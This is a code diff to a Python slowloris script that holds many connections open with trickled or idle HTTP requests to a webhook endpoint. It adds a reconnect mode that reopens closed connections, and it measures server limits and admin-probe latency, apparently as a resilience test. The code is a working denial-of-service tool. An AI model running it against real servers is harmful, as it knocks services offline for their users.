@@ -3,7 +3,11 @@
 a request line and then one header every INTERVAL seconds, never finishing
 (slowloris). Meanwhile the admin probes are asked every 200 ms.
 
-  slowloris.py HOST PORT ADMIN_URL N INTERVAL DURATION
+  slowloris.py HOST PORT ADMIN_URL N INTERVAL DURATION [reconnect]
+
+With "reconnect", every connection is opened again as soon as the server
+closes it (an attacker keeping N slots taken), and every other one sends
+nothing at all (idle) instead of trickling headers.
 
 Prints JSON: how many connections were refused at once (over the connection
 limit), how many the server closed and after how long (min, p50, max), how
@@ -16,16 +20,26 @@ import time
 import urllib.request
 
 
-async def one(host, port, interval, duration, out):
+async def again(host, port, interval, duration, out, idle):
+    t_end = time.monotonic() + duration
+    while time.monotonic() < t_end:
+        await one(host, port, interval, t_end - time.monotonic(), out, idle)
+        out["reconnects"] = out.get("reconnects", 0) + 1
+    out["open_at_end"] = 0  # by design: they are reopened to the end
+
+
+async def one(host, port, interval, duration, out, idle=False):
     t0 = time.monotonic()
     try:
         reader, writer = await asyncio.open_connection(host, port)
     except OSError:
         out["refused"] += 1
+        await asyncio.sleep(0.05)
         return
     try:
-        writer.write(b"POST /webhooks/telnyx/portouts HTTP/1.1\r\nHost: x\r\n")
-        await writer.drain()
+        if not idle:
+            writer.write(b"POST /webhooks/telnyx/portouts HTTP/1.1\r\nHost: x\r\n")
+            await writer.drain()
         n = 0
         while time.monotonic() - t0 < duration:
             try:
@@ -38,8 +52,9 @@ async def one(host, port, interval, duration, out):
             except asyncio.TimeoutError:
                 pass
             n += 1
-            writer.write(b"X-Slow-%d: 1\r\n" % n)
-            await writer.drain()
+            if not idle:
+                writer.write(b"X-Slow-%d: 1\r\n" % n)
+                await writer.drain()
         out["open_at_end"] += 1
     except (ConnectionError, OSError):
         out["closed_after"].append(time.monotonic() - t0)
@@ -66,7 +81,10 @@ async def main():
     host, port, admin, n, interval, duration = sys.argv[1:7]
     port, n, interval, duration = int(port), int(n), float(interval), float(duration)
     out = {"refused": 0, "closed_after": [], "open_at_end": 0, "answers": {}, "probes": []}
-    tasks = [one(host, port, interval, duration, out) for _ in range(n)]
+    if len(sys.argv) > 7 and sys.argv[7] == "reconnect":
+        tasks = [again(host, port, interval, duration, out, i % 2 == 0) for i in range(n)]
+    else:
+        tasks = [one(host, port, interval, duration, out) for _ in range(n)]
     await asyncio.gather(probes(admin, duration, out), *tasks)
     c = sorted(out["closed_after"])
     out["closed"] = len(c)
